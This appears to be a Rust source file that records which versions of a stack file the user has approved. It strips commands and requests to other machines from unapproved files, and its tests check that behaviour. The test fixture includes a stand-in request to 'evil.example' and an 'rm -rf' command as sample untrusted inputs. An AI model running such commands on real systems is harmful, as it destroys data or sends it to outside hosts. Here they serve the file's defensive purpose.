//! Stack files whose commands may run before their stack is started: those that were started with
//! this home, and those that the user has approved, each in the version of that moment.
//!
//! A diagnosis runs commands of the stack file and sends its requests. A file in another author's
//! project must not do that just because the user looks at it.

use std::{io, path::Path, sync::Arc};

use ring::digest::{SHA256, digest};
use url::{Host, Url};

use super::texts::Texts;
use crate::{
    fs::{home::Home, redact::redact},
    model::facts::StackId,
    stack::{CheckAction, Probe, ServiceName, Stack},
};

/// The number of remembered versions of a stack file; users switch between branches.
const REMEMBERED: usize = 16;

/// The user's answers.
#[derive(Debug)]
pub struct Consents(Texts);

impl Consents {
    /// Returns the answers stored in this home.
    #[must_use]
    pub fn of(home: &Home) -> Self {
        Self::under(home.state())
    }

    /// Returns the answers stored in this state folder.
    pub(crate) fn under(state: &Path) -> Self {
        Self(Texts::of(state, "consents"))
    }

    /// Returns whether the user allows the stack file with this text to act. Unreadable answers
    /// mean no.
    #[must_use]
    pub fn has(&self, stack: &StackId, text: &str) -> bool {
        let hash = hash(text);
        let known = self.0.read(stack).unwrap_or_default();
        known.lines().any(|line| line == hash)
    }

    /// Records that the user allows this text.
    pub fn give(&self, stack: &StackId, text: &str) -> io::Result<()> {
        let hash = hash(text);
        let known = self.0.read(stack).unwrap_or_default();
        let known: Vec<&str> = known.lines().filter(|line| *line != hash).collect();
        let kept = &known[known.len().saturating_sub(REMEMBERED - 1)..];
        let lines: Vec<&str> = kept.iter().copied().chain([hash.as_str()]).collect();
        self.0.write(stack, &(lines.join("\n") + "\n"))
    }
}

/// Returns a cryptographic hash, so that no other text can have the same one.
fn hash(text: &str) -> String {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    // The debug format is `SHA256:` and the digits.
    let hash = format!("{:?}", digest(&SHA256, text.as_bytes()));
    hash.rsplit(':').next().unwrap_or_default().to_owned()
}

/// Removes everything from a stack that a diagnosis would run or send to another machine. Returns a
/// description of each: `backend runs docker info`.
pub fn withhold(stack: &mut Stack) -> Vec<String> {
    let ports = stack.clone();
    let mut withheld = Vec::new();
    for service in &mut stack.services {
        let service = Arc::make_mut(service);
        let name = service.name.clone();
        let mut note = |what: &str| withheld.push(format!("{name} {}", redact(what)));
        for command in service.require.commands.drain(..) {
            note(&format!("runs {}", command.render(&name, &ports)));
        }
        for probe in &mut service.ready.probes {
            if let Some(what) = of_probe(probe, &name, &ports) {
                note(&what);
                *probe = Probe::Process;
            }
        }
        service.checks.retain(|check| {
            let what = match check.render(&name, &ports).action {
                CheckAction::Command(command) => Some(format!("runs {command}")),
                CheckAction::Http(request) => sent(&request.method, &request.url),
                CheckAction::WebSocket { url, .. } => sent("a WebSocket to", &url),
                CheckAction::Redis(url) => sent("PING", &url),
            };
            if let Some(what) = &what {
                note(what);
            }
            what.is_none()
        });
    }
    withheld
}

fn of_probe(probe: &Probe, name: &ServiceName, ports: &Stack) -> Option<String> {
    match probe.render(name, ports) {
        Probe::Command(command) => Some(format!("runs {command}")),
        Probe::Http(request) => sent(&request.method, &request.url),
        Probe::WebSocket(url) => sent("a WebSocket to", &url),
        Probe::Redis(url) => sent("PING", &url),
        Probe::Server(protocol, url) => sent(protocol.title(), &url),
        Probe::Tcp(address) | Probe::Published(address) => {
            sent("a connection to", &format!("tcp://{address}"))
        }
        Probe::Log(_) | Probe::Process | Probe::Container => None,
    }
}

/// Describes a request to another machine or to an address that cannot be parsed. Addresses may
/// contain variables.
fn sent(what: &str, address: &str) -> Option<String> {
    let parsed = Url::parse(address).ok();
    let stays = match parsed.as_ref().and_then(Url::host) {
        Some(Host::Domain(name)) => {
            name == "localhost" || name.ends_with(".localhost") || is_loopback(name)
        }
        Some(Host::Ipv4(address)) => address.is_loopback() || address.is_unspecified(),
        Some(Host::Ipv6(address)) => address.is_loopback() || address.is_unspecified(),
        None => false,
    };
    (!stays).then(|| format!("sends {what} {address}"))
}

/// Returns whether the host is this machine. The URL parser returns an IP address as a domain for
/// unknown schemes.
fn is_loopback(name: &str) -> bool {
    let address = name.parse::<std::net::IpAddr>();
    address.is_ok_and(|address| address.is_loopback() || address.is_unspecified())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stack_file;

    fn stack(text: &str) -> Stack {
        let file = Path::new("/srv/app/pilotlight.toml");
        stack_file::parse(file, text.as_bytes(), &crate::env::Env::default()).unwrap()
    }

    #[test]
    fn commands_and_requests_to_other_machines_are_withheld_and_described() {
        let mut stack = stack(
            r#"
            [service.db]
            external = true
            ready = { redis = "redis://:pw@db.example:6379" }
            [service.api]
            command = "run"
            port = 8001
            require = { commands = ["docker info"] }
            ready = { command = "curl -u a:b x", http = "/health", tcp = "127.0.0.1:8001" }
            [[service.api.check]]
            name = "local"
            http = "http://127.0.0.1:8001/"
            [[service.api.check]]
            name = "away"
            http = { method = "POST", url = "https://evil.example/?k=1" }
            [[service.api.check]]
            name = "command"
            command = ["rm", "-rf", "x"]
            "#,
        );
        assert_eq!(
            withhold(&mut stack),
            [
                "db sends PING redis://:***@db.example:6379",
                "api runs docker info",
                "api runs curl -u a:*** x",
                "api sends POST https://evil.example/?k=1",
                "api runs rm -rf x",
            ]
        );
        assert_eq!(stack.services[1].ready.probes.len(), 3);
        assert_eq!(stack.services[1].checks.len(), 1);
        assert_eq!(withhold(&mut stack), [""; 0], "nothing is left of it");
    }

    #[test]
    fn a_consent_is_only_for_the_current_version_of_the_file() {
        let folder = tempfile::tempdir().unwrap();
        let consents = Consents::under(folder.path());
        let id = StackId("app-1".to_owned());
        assert!(!consents.has(&id, "one"));
        consents.give(&id, "one").unwrap();
        consents.give(&id, "two").unwrap();
        assert!(consents.has(&id, "one") && consents.has(&id, "two"));
        assert!(consents.has(&id, "\u{feff}one"));
        assert!(!consents.has(&id, "one "));
        assert!(!consents.has(&StackId("app-2".to_owned()), "one"));
        for number in 0..REMEMBERED {
            consents.give(&id, &number.to_string()).unwrap();
        }
        assert!(!consents.has(&id, "two"), "the oldest are forgotten");
    }
}
